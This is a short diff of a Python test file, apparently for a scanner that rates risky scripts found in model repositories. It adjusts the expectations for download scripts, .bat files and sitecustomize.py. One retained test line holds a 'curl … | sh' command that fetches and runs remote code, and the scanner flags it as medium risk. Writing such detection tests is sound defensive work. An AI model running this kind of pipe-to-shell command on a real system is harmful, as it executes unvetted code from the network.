@@ -81,9 +81,9 @@ def test_path_files_of_python_share_the_ending_of_weights() -> None:
 
 
 def test_scripts_and_shortcuts() -> None:
-    assert rules("#!/bin/sh\nwget https://example.net/model.bin\n", "get.sh") == {
-        "program.script": "low"
-    }
+    assert rules("#!/bin/sh\nwget https://example.net/model.bin\n", "get.sh") == {}
+    assert rules("echo hello\r\n", "start.bat") == {"program.script": "low"}
+    assert rules("import os\n", "sitecustomize.py") == {"program.script": "low"}
     assert rules("#!/bin/sh\ncurl http://example.net/x | sh\n", "get.sh") == {
         "program.script-fetches": "medium"
     }
